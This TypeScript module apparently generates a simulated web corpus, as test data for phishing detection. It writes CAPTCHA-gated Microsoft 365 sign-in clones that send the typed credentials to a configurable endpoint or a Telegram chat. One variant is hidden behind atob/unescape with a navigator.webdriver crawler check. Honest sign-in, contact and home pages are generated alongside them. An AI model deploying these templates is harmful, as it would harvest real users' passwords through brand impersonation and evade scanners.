/**
 * Pages of the world, written under `pages/<host>/`: operators' CAPTCHA-gated Microsoft 365 sign-in
 * clones in three variants — live-served (gate, then a form loading Microsoft's CDN assets and posting
 * to an exfiltration endpoint), saved-to-disk ("Verify your identity" with inlined styles, relative
 * assets, the brand in text and images, a form posting to another origin) and obfuscated (the same
 * clone behind `atob`/`unescape` in a gate shell) — and honest pages (homes, honest sign-in pages with
 * Turnstile, contact forms with reCAPTCHA). Synthetic, no live phishing content: every endpoint points
 * at names of the simulated world.
 * @module
 */
import type { Rng } from '../rng.js';
import type { KitPageSpec } from './operators.js';

export interface PageFile {
  /** Path under `pages/` (`<host>/index.html`, `<host>/index_files/style.css`). */
  readonly path: string;
  readonly body: string;
}

const esc = (s: string) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

function gate(rng: Rng, build: string): { head: string; body: string; pass: string } {
  const kind = rng.pick(['turnstile', 'hcaptcha', 'slider']);
  const cb = `ok_${build.slice(0, 3)}`;
  if (kind === 'turnstile')
    return {
      head: '<script src="https://challenges.cloudflare.com/turnstile/v0/api.js" async defer></script>',
      body: `<div id="g${build}"><div class="cf-turnstile" data-sitekey="0x4AAAAAAA${build}" data-callback="${cb}"></div></div>`,
      pass: cb,
    };
  if (kind === 'hcaptcha')
    return {
      head: '<script src="https://js.hcaptcha.com/1/api.js" async defer></script>',
      body: `<div id="g${build}"><div class="h-captcha" data-sitekey="${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}" data-callback="${cb}"></div></div>`,
      pass: cb,
    };
  return {
    head: '',
    body: `<div id="g${build}"><p>Verify you are human: slide to continue</p><input type="range" min="0" max="100" value="0" oninput="if(this.value==100)${cb}()"></div>`,
    pass: cb,
  };
}

function exfilScript(spec: KitPageSpec, build: string): string {
  const send =
    spec.exfil === 'telegram'
      ? `fetch('${spec.endpoint}', {method: 'POST', body: new URLSearchParams({chat_id: '-100${build.replace(/[a-f]/g, '7')}', text: u + ':' + p})});`
      : `fetch('${spec.endpoint}', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({u: u, p: p, k: '${build}'})});`;
  const wallet = spec.wallet
    ? `\nvar _rcpt_${build} = '${spec.wallet.address}'; // licence payments (${spec.wallet.chain})`
    : '';
  return `var _b${build} = '${build}';${wallet}
document.getElementById('f${build}').addEventListener('submit', function (e) {
  e.preventDefault();
  var u = document.getElementById('i0116').value, p = document.getElementById('i0118').value;
  ${send}
  window.location.href = 'https://login.microsoftonline.com/';
});`;
}

function liveClone(rng: Rng, spec: KitPageSpec): string {
  const b = spec.build;
  const g = gate(rng, b);
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Sign in to your Microsoft account</title>
<link rel="icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<link rel="stylesheet" href="https://aadcdn.msauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css">
${g.head}</head>
<body>
${g.body}
<div id="app${b}" style="display:none">
<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft">
<div id="loginHeader">Sign in</div>
<form id="f${b}" method="post">
 <input type="email" name="loginfmt" id="i0116" placeholder="Email, phone, or Skype">
 <input type="password" name="passwd" id="i0118" placeholder="Password">
 <input type="hidden" name="flowToken" value=""><input type="hidden" name="idPartnerPL" value="">
 <input type="submit" id="idSIButton9" value="Sign in">
</form></div>
<script>
function ${g.pass}() { document.getElementById('g${b}').style.display = 'none'; document.getElementById('app${b}').style.display = 'block'; }
${exfilScript(spec, b)}
</script></body></html>
`;
}

function savedClone(spec: KitPageSpec): { html: string; assets: PageFile[] } {
  const b = spec.build;
  const action = spec.exfil === 'webhook' ? spec.endpoint : `https://${spec.host}/next.php`;
  const html = `<!DOCTYPE html>
<!-- saved from url=(0069)https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id= -->
<html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title>Verify your identity</title>
<link rel="stylesheet" href="./index_files/converged.css">
<style>body{font-family:"Segoe UI",Helvetica,Arial,sans-serif;background:#f2f2f2}.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.title{font-size:24px;font-weight:600}</style>
</head><body>
<div class="box">
<img src="./index_files/microsoft_logo.svg" alt="Microsoft" width="108" height="24">
<div class="title">Verify your identity</div>
<p>Microsoft needs to confirm it's you before you can open the shared document. Sign in with your work or school account.</p>
<form id="f${b}" method="post" action="${esc(action)}">
<input type="email" name="loginfmt" id="i0116" placeholder="someone@example.com">
<input type="password" name="passwd" id="i0118" placeholder="Password">
<input type="submit" value="Next">
</form>
<p class="footer">© Microsoft 2026 · Privacy &amp; cookies · Terms of use</p>
</div>
<script src="./index_files/app.js"></script>
</body></html>
`;
  return {
    html,
    assets: [
      {
        path: `${spec.host}/index_files/converged.css`,
        body: `/* converged login styles, saved copy */\n.box input{display:block;width:100%;margin:12px 0;padding:6px;border:0;border-bottom:1px solid #666}\n`,
      },
      {
        path: `${spec.host}/index_files/microsoft_logo.svg`,
        body: '<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><title>Microsoft</title><rect width="10.8" height="10.8" fill="#f25022"/><rect x="12" width="10.8" height="10.8" fill="#7fba00"/><rect y="12" width="10.8" height="10.8" fill="#00a4ef"/><rect x="12" y="12" width="10.8" height="10.8" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI" font-size="15" fill="#737373">Microsoft</text></svg>\n',
      },
      { path: `${spec.host}/index_files/app.js`, body: `${exfilScript(spec, b)}\n` },
    ],
  };
}

function obfuscatedClone(rng: Rng, spec: KitPageSpec): string {
  const inner = liveClone(rng, spec);
  const useAtob = rng.chance(0.5);
  const payload = useAtob
    ? Buffer.from(inner, 'utf8').toString('base64')
    : encodeURIComponent(inner).replaceAll("'", '%27');
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title><meta name="robots" content="noindex, nofollow"></head><body>
<noscript>Please enable JavaScript to continue.</noscript>
<script>
(function(){var _0x${spec.build}=${useAtob ? 'atob' : 'unescape'}('${payload}');if(navigator.webdriver){location.replace('https://www.office.com/');return;}document.open();document.write(_0x${spec.build});document.close();})();
</script></body></html>
`;
}

/** The files of one kit page. */
export function kitPage(rng: Rng, spec: KitPageSpec): PageFile[] {
  if (spec.variant === 'saved') {
    const s = savedClone(spec);
    return [{ path: `${spec.host}/index.html`, body: s.html }, ...s.assets];
  }
  const html = spec.variant === 'live' ? liveClone(rng, spec) : obfuscatedClone(rng, spec);
  return [{ path: `${spec.host}/index.html`, body: html }];
}

export type HonestPageKind = 'home' | 'signin' | 'contact';

/** An honest page of `host`: an organisation's home, its own sign-in page (Turnstile), a contact form. */
export function honestPage(rng: Rng, host: string, kind: HonestPageKind): PageFile[] {
  const org = host.split('.')[0]?.replace(/-/g, ' ') ?? host;
  const title = org.replace(/\b\w/g, (c) => c.toUpperCase());
  if (kind === 'signin')
    return [
      {
        path: `${host}/index.html`,
        body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Sign in · ${esc(title)}</title>
<link rel="stylesheet" href="/assets/app.css">
<script src="https://challenges.cloudflare.com/turnstile/v0/api.js" async defer></script></head>
<body><main><h1>${esc(title)}</h1><form method="post" action="/session">
<label>Email <input type="email" name="email" autocomplete="username"></label>
<label>Password <input type="password" name="password" autocomplete="current-password"></label>
<div class="cf-turnstile" data-sitekey="0x4AAAAAAA${rng.hex(10)}"></div>
<button type="submit">Sign in</button></form>
<p><a href="/forgot">Forgot your password?</a> · <a href="/signup">Create an account</a></p></main></body></html>
`,
      },
      {
        path: `${host}/assets/app.css`,
        body: 'main{max-width:28rem;margin:4rem auto;font-family:system-ui}label{display:block;margin:.5rem 0}\n',
      },
    ];
  if (kind === 'contact')
    return [
      {
        path: `${host}/index.html`,
        body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Contact · ${esc(title)}</title>
<script src="https://www.google.com/recaptcha/api.js" async defer></script></head>
<body><h1>Contact ${esc(title)}</h1><form method="post" action="/contact">
<input name="name" placeholder="Your name"><input type="email" name="email" placeholder="Email">
<textarea name="message"></textarea><div class="g-recaptcha" data-sitekey="6Le${rng.hex(12)}"></div>
<button>Send</button></form><footer>© 2026 ${esc(title)}</footer></body></html>
`,
      },
    ];
  return [
    {
      path: `${host}/index.html`,
      body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${esc(title)}</title>
<meta name="description" content="${esc(title)}: ${rng.pick(['services', 'products', 'our team', 'projects'])}">
<link rel="stylesheet" href="/assets/site.css"></head>
<body><header><nav><a href="/">Home</a> <a href="/about">About</a> <a href="/contact">Contact</a></nav></header>
<main><h1>Welcome to ${esc(title)}</h1><p>We have been serving our customers since ${rng.int(1985, 2024)}.</p></main>
<footer>© 2026 ${esc(title)} · <a href="/privacy">Privacy</a></footer></body></html>
`,
    },
    {
      path: `${host}/assets/site.css`,
      body: 'body{font-family:system-ui;margin:0}header,main,footer{padding:1rem 2rem}\n',
    },
  ];
}
